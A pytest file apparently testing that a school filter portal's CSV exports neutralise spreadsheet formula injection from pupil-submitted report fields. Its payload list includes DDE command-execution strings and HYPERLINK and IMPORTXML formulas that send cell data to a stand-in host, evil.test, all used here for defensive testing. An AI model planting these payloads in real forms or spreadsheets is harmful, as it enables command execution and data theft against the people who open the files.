"""I27: what a pupil writes is text in every table that is given out, in whatever country it is opened."""

from __future__ import annotations

import csv
import io
import re
from html import unescape
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from tests.lab.client import Device, get
from tests.lab.gateway import Gateway
from tests.lab.lab import ROOT, Lab
from tests.lab.warning import FORM_TYPE
from tests.lab.wire import Reply

PORTAL = "hedgerow.test"
FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "%0A=1+1",
    'x","=1+1',
    "x;=1+1;y",
    'x";"=1+1',
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
]
BEGINS = tuple("=+-@%|\uff1d\uff0b\uff0d\uff20")


def post(device: Device, fields: dict[str, str]) -> Reply:
    body = urlencode(fields).encode()
    return device.https(PORTAL, get(PORTAL, "/report", FORM_TYPE, f"Content-Length: {len(body)}", method="POST") + body)


def report(device: Device, text: str) -> Reply:
    """The form for "this is wrong" with the same in every field a pupil can fill."""
    page = device.https(PORTAL, get(PORTAL, "/report?kind=wrong"))
    hidden = re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page.body.decode())
    asked = {name: unescape(value) for name, value in hidden}
    return post(device, {**asked, "address": text, "text": text, "contact": text, "page": text})


@pytest.fixture(scope="module")
def told(lab: Lab, gateway: Gateway) -> Gateway:
    """A pupil has filled the form with formulas, and met blocked addresses made of them."""
    device = lab.device("pupil8", "explicit", gateway.ca)
    for text in FORMULAS:
        assert report(device, text).status == 200, text
        device.https("blocked.test", get("blocked.test", f"/{quote(text)}?{quote(text)}"))
    return gateway


def cells(text: str) -> list[str]:
    """Every cell a spreadsheet of any country would see."""
    return [
        cell
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def is_text(text: str) -> None:
    for cell in cells(text):
        assert not cell.lstrip('\ufeff \t\r\n\xa0"').startswith(BEGINS), repr(cell)


def test_I27_reports(told: Gateway, tmp_path: Path) -> None:
    given = told.cli("reports", "export", "--by", "Minh", "--reason", "=1+1", check=True).stdout
    assert "=importxml" in given and "=1+1" in given, "they are in it"
    is_text(given)
    rows = list(csv.reader(io.StringIO(given, newline="")))
    assert len({len(row) for row in rows}) == 1 and len(rows) > 10, "and none has left its cell"
    told.cli("reports", "export", "--by", "Minh", "--reason", "x", "--out", str(tmp_path / "a.csv"), check=True)
    is_text((tmp_path / "a.csv").read_text(encoding="utf-8"))


def test_I27_the_record(told: Gateway) -> None:
    """What a teacher gives as a reason, and a name that is a formula, stand in the record as they were written."""
    for text in FORMULAS[:4]:
        told.cli("reports", "export", "--by", text, "--reason", text, check=True)
    given = told.cli("record", "export", "--csv", check=True).stdout
    assert "calc" in given
    is_text(given)


def test_I27_nothing_else_is_a_table(told: Gateway) -> None:
    """The log is given out as JSON and as lines for people: no command writes tables that are not asked about here."""
    writers = [
        p.name for p in (ROOT / "addons/hedgerow").rglob("*.py") if re.search(r"csv\.\w*[wW]riter", p.read_text())
    ]
    assert writers == ["tables.py"]
